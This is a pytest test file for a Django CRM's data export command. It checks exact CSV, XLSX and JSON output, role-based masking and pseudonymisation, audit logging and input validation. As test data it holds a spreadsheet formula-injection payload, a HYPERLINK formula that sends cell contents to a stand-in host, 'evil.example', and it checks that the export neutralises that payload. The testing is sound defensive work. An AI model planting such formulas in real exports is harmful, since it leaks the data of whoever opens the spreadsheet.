"""``guanxi export``: exact output per format and role, injection, bad input."""

from __future__ import annotations

import datetime as dt
import io
import json
import logging
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation
from openpyxl import load_workbook

from guanxi.commerce.models import Order
from guanxi.core.crypto import pseudonym
from guanxi.customers.models import Tag
from guanxi.exports.models import ExportRecord
from guanxi.exports.services import spreadsheet_safe

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SEEN = dt.datetime(2025, 3, 1, 8, 30, tzinfo=dt.UTC)


@pytest.fixture(autouse=True)
def _english() -> Any:
    with translation.override("en"):
        yield


@pytest.fixture
def world(users: dict[str, Any], make_customer: Any) -> dict[str, Any]:
    own = make_customer(
        name="张伟",
        phone="+8613800138000",
        email="zhang.wei@example.com",
        birthday=dt.date(1990, 5, 1),
        city="上海",
        address="上海市徐汇区中山路1号",
        gender="male",
        preferred_channel="wecom",
        assigned_manager=users["account_manager"],
        first_seen_at=SEEN,
    )
    own.tags.set([Tag.objects.create(name="VIP"), Tag.objects.create(name="老客户")])
    evil = make_customer(
        name=EVIL,
        phone="+8613900139000",
        city="-北京",
        assigned_manager=users["other_manager"],
        first_seen_at=SEEN,
    )
    Order.objects.create(
        source="pos",
        external_id="A-1",
        customer=own,
        ordered_at=dt.datetime(2025, 4, 2, 3, 4, 5, tzinfo=dt.UTC),
        amount=Decimal("268.00"),
        store="上海徐汇店",
        channel="store",
    )
    Order.objects.create(
        source="shop",
        external_id="@B-2",
        customer=evil,
        ordered_at=dt.datetime(2025, 4, 3, 0, 0, tzinfo=dt.UTC),
        amount=Decimal("1288.50"),
        store="线上商城",
        channel="online",
        status="refunded",
    )
    return {"own": own, "evil": evil, **users}


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("export", *args, "--no-progress", stdout=out, stderr=io.StringIO())
    return out.getvalue()


def own_full(c: Any) -> dict[str, Any]:
    return {
        "id": str(c.pk),
        "name": "张伟",
        "phone": "+8613800138000",
        "email": "zhang.wei@example.com",
        "birthday": "1990-05-01",
        "gender": "male",
        "city": "上海",
        "address": "上海市徐汇区中山路1号",
        "preferred_channel": "wecom",
        "assigned_manager": c.assigned_manager_id,
        "tags": ["VIP", "老客户"],
        "first_seen_at": "2025-03-01T08:30:00+00:00",
    }


def evil_full(c: Any) -> dict[str, Any]:
    return {
        "id": str(c.pk),
        "name": EVIL,
        "phone": "+8613900139000",
        "email": "",
        "birthday": None,
        "gender": "",
        "city": "-北京",
        "address": "",
        "preferred_channel": "",
        "assigned_manager": c.assigned_manager_id,
        "tags": [],
        "first_seen_at": "2025-03-01T08:30:00+00:00",
    }


def test_customers_json_full_access(world: dict[str, Any]) -> None:
    data = json.loads(run("customers", "--format", "json"))
    assert data == [evil_full(world["evil"]), own_full(world["own"])]


def test_customers_json_as_admin_equals_full_access(world: dict[str, Any]) -> None:
    assert run("customers", "--format", "json", "--as", "admin") == run(
        "customers", "--format", "json"
    )


def test_customers_json_as_operations_is_masked(world: dict[str, Any]) -> None:
    data = json.loads(run("customers", "--format", "json", "--as", "operations"))
    own = own_full(world["own"]) | {
        "phone": "138****8000",
        "email": "z***@example.com",
        "birthday": None,
        "address": "上海市徐汇区****",
    }
    evil = evil_full(world["evil"]) | {"phone": "139****9000"}
    assert data == [evil, own]


def test_customers_json_as_analyst_is_pseudonymous(world: dict[str, Any]) -> None:
    data = json.loads(run("customers", "--format", "json", "--as", "analyst"))
    # By pseudonym, not by number (a place in that order tells the number).
    expected: list[dict[str, Any]] = [
        {
            "id": pseudonym(world["evil"].pk),
            "birth_year": None,
            "gender": "",
            "city": "-北京",
            "preferred_channel": "",
            "tags": [],
            "first_seen_at": "2025-03-01T08:30:00+00:00",
        },
        {
            "id": pseudonym(world["own"].pk),
            "birth_year": 1990,
            "gender": "male",
            "city": "上海",
            "preferred_channel": "wecom",
            "tags": ["VIP", "老客户"],
            "first_seen_at": "2025-03-01T08:30:00+00:00",
        },
    ]
    assert data == sorted(expected, key=lambda row: str(row["id"]))
    text = json.dumps(data, ensure_ascii=False)
    # The pseudonyms are hex digests, so look for whole contact values, not
    # digit runs that a digest may contain by chance.
    for secret in ("张伟", "13800138000", "13900139000", "zhang.wei", "@example.com"):
        assert secret not in text


def test_customers_json_as_account_manager_only_own(world: dict[str, Any]) -> None:
    data = json.loads(run("customers", "--format", "json", "--as", "account_manager"))
    assert data == [own_full(world["own"])]
    other = json.loads(run("customers", "--format", "json", "--as", "other_manager"))
    assert other == [evil_full(world["evil"])]


def test_customers_csv_exact_and_neutralised(world: dict[str, Any]) -> None:
    own, evil = world["own"], world["evil"]
    text = run("customers")
    m_own, m_evil = own.assigned_manager_id, evil.assigned_manager_id
    assert text == (
        "id,name,phone,email,birthday,gender,city,address,preferred_channel,"
        "assigned_manager,tags,first_seen_at\r\n"
        f'{evil.pk},"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'
        f"'+8613900139000,,,,'-北京,,,{m_evil},,2025-03-01T08:30:00+00:00\r\n"
        f"{own.pk},张伟,'+8613800138000,zhang.wei@example.com,1990-05-01,male,上海,"
        f"上海市徐汇区中山路1号,wecom,{m_own},VIP;老客户,2025-03-01T08:30:00+00:00\r\n"
    )


def test_customers_csv_file_has_bom_for_excel(
    world: dict[str, Any], tmp_path: Path
) -> None:
    target = tmp_path / "customers.csv"
    run("customers", "--out", str(target))
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfid,name,phone")
    assert raw.decode("utf-8-sig") == run("customers")
    assert [p.name for p in tmp_path.iterdir()] == ["customers.csv"]


def test_customers_xlsx_neutralises_formulas(
    world: dict[str, Any], tmp_path: Path
) -> None:
    target = tmp_path / "customers.xlsx"
    run("customers", "--format", "xlsx", "--out", str(target), "--as", "operations")
    sheet = load_workbook(target).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [
        "id", "name", "phone", "email", "birthday", "gender", "city", "address",
        "preferred_channel", "assigned_manager", "tags", "first_seen_at",
    ]  # fmt: skip
    evil = world["evil"]
    assert rows[1] == [
        str(evil.pk), "'" + EVIL, "139****9000", None, None, None, "'-北京", None,
        None, evil.assigned_manager_id, None, "2025-03-01T08:30:00+00:00",
    ]  # fmt: skip
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert rows[2][1:4] == ["张伟", "138****8000", "z***@example.com"]
    assert len(rows) == 3


def test_orders_json_full_and_masked(world: dict[str, Any]) -> None:
    own, evil = world["own"], world["evil"]
    full = json.loads(run("orders", "--format", "json"))
    assert full == [
        {
            "external_id": "@B-2",
            "source": "shop",
            "customer": str(evil.pk),
            "customer_phone": "+8613900139000",
            "ordered_at": "2025-04-03T00:00:00+00:00",
            "amount": "1288.50",
            "currency": "CNY",
            "store": "线上商城",
            "channel": "online",
            "status": "refunded",
        },
        {
            "external_id": "A-1",
            "source": "pos",
            "customer": str(own.pk),
            "customer_phone": "+8613800138000",
            "ordered_at": "2025-04-02T03:04:05+00:00",
            "amount": "268.00",
            "currency": "CNY",
            "store": "上海徐汇店",
            "channel": "store",
            "status": "paid",
        },
    ]
    masked = json.loads(run("orders", "--format", "json", "--as", "operations"))
    assert [o["customer_phone"] for o in masked] == ["139****9000", "138****8000"]
    assert [dict(o, customer_phone="") for o in masked] == [
        dict(o, customer_phone="") for o in full
    ]


def test_orders_as_analyst_and_manager(world: dict[str, Any]) -> None:
    analyst = json.loads(run("orders", "--format", "json", "--as", "analyst"))
    assert [(o["customer"], o["external_id"]) for o in analyst] == [
        (pseudonym(world["evil"].pk), "@B-2"),
        (pseudonym(world["own"].pk), "A-1"),
    ]
    assert all("customer_phone" not in o for o in analyst)
    manager = json.loads(run("orders", "--format", "json", "--as", "account_manager"))
    assert [o["external_id"] for o in manager] == ["A-1"]


def test_orders_csv_and_xlsx(world: dict[str, Any], tmp_path: Path) -> None:
    own, evil = world["own"], world["evil"]
    assert run("orders", "--as", "analyst") == (
        "external_id,source,customer,ordered_at,amount,currency,store,channel,status"
        "\r\n"
        f"'@B-2,shop,{pseudonym(evil.pk)},2025-04-03T00:00:00+00:00,1288.50,CNY,"
        "线上商城,online,refunded\r\n"
        f"A-1,pos,{pseudonym(own.pk)},2025-04-02T03:04:05+00:00,268.00,CNY,"
        "上海徐汇店,store,paid\r\n"
    )
    target = tmp_path / "orders.xlsx"
    run("orders", "--format", "xlsx", "--out", str(target))
    rows = [[c.value for c in r] for r in load_workbook(target).active.iter_rows()]
    assert rows[1] == [
        "'@B-2", "shop", str(evil.pk), "'+8613900139000", "2025-04-03T00:00:00+00:00",
        1288.5, "CNY", "线上商城", "online", "refunded",
    ]  # fmt: skip


def test_export_is_recorded_without_personal_data(
    world: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO, logger="guanxi.audit"):
        run("customers", "--format", "json", "--as", "operations")
    record = ExportRecord.objects.get()
    assert (record.actor, record.actor_label, record.role) == (
        world["operations"],
        "operations",
        "operations",
    )
    assert (record.kind, record.format, record.rows, record.status) == (
        "customers",
        "json",
        2,
        "done",
    )
    assert record.destination == "stdout" and record.finished_at is not None
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert f"export {record.pk} started: customers as json by operations" in logged
    assert f"export {record.pk} done: 2 rows" in logged
    for secret in ("张伟", "13800138000", "zhang.wei", "HYPERLINK"):
        assert secret not in logged


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["customers", "--as", "nobody"], 'no user named "nobody"'),
        (["customers", "--format", "pdf"], 'unknown format "pdf": choose csv, xlsx or json'),
        (["tickets"], 'unknown export "tickets": choose customers or orders'),
        (
            ["customers", "--as", "service"],
            'user "service" (Customer service) may not export data',
        ),
        (["orders", "--format", "xlsx"], "xlsx needs --out FILE"),
    ],
)  # fmt: skip
def test_bad_input_writes_nothing(
    world: dict[str, Any], tmp_path: Path, args: list[str], message: str
) -> None:
    target = tmp_path / "out.file"
    extra = [] if args[-1] == "xlsx" else ["--out", str(target)]
    with pytest.raises(CommandError) as err:
        run(*args, *extra)
    assert str(err.value) == message
    assert list(tmp_path.iterdir()) == []
    assert not ExportRecord.objects.exists()


def test_user_without_role_may_not_export(
    world: dict[str, Any], tmp_path: Path
) -> None:
    from django.contrib.auth import get_user_model

    get_user_model().objects.create_user(username="norole", password="x-y-z-123456")
    with pytest.raises(CommandError) as err:
        run("orders", "--as", "norole", "--out", str(tmp_path / "o.csv"))
    assert str(err.value) == 'user "norole" (no role) may not export data'
    assert list(tmp_path.iterdir()) == []


def test_missing_folder_is_refused(world: dict[str, Any], tmp_path: Path) -> None:
    with pytest.raises(CommandError) as err:
        run("orders", "--out", str(tmp_path / "nope" / "o.csv"))
    assert str(err.value) == f"folder {tmp_path / 'nope'} does not exist"
    assert not ExportRecord.objects.exists()


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+86", "'+86"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("张伟", "张伟"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(value: str, safe: str) -> None:
    assert spreadsheet_safe(value) == safe


def test_chinese_messages(world: dict[str, Any]) -> None:
    with translation.override("zh-hans"), pytest.raises(CommandError) as err:
        run("customers", "--as", "nobody")
    assert str(err.value) == "没有名为“nobody”的用户"
